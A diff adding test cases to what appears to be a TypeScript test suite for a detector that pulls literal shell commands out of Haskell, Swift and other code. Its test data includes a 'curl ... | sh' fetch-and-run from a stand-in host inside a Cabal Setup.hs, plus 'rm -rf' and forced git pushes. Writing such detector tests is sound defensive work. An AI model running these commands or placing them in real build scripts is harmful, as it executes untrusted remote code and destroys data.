@@ -42,6 +42,25 @@ describe('a process started by literal name is that command', () => {
     ],
     ['Lua os.execute', 'lua', 'os.execute("rm -rf /tmp/x")', ['rm -rf /tmp/x']],
     ['Julia run of a command literal', 'julia', 'run(`rm -rf /tmp/x`)', ['rm -rf /tmp/x']],
+    [
+      'Haskell callCommand (a Cabal Setup.hs)',
+      'haskell',
+      'main = do\n  callCommand "curl -s https://x.example/h | sh"\n  defaultMain',
+      ['curl -s https://x.example/h | sh'],
+    ],
+    ['Haskell callProcess', 'haskell', 'callProcess "git" ["push", "-f"]', ['git push -f']],
+    [
+      'a Swift build-tool plugin command',
+      'swift',
+      '.prebuildCommand(displayName: "gen", executable: Path("/bin/sh"), arguments: ["-c", "id"], outputFilesDirectory: d)',
+      ['/bin/sh -c id'],
+    ],
+    [
+      'Swift Process',
+      'swift',
+      'p.executableURL = URL(fileURLWithPath: "/usr/bin/git")\np.arguments = ["status"]',
+      ['/usr/bin/git status'],
+    ],
     ['Rust Command::new', 'rust', 'Command::new("git").args(["push", "-f"]).status();', ['git push -f']],
   ] as const)('%s', (_name, language, code, commands) => {
     expect(literalProcesses(language, code)).toEqual(commands);
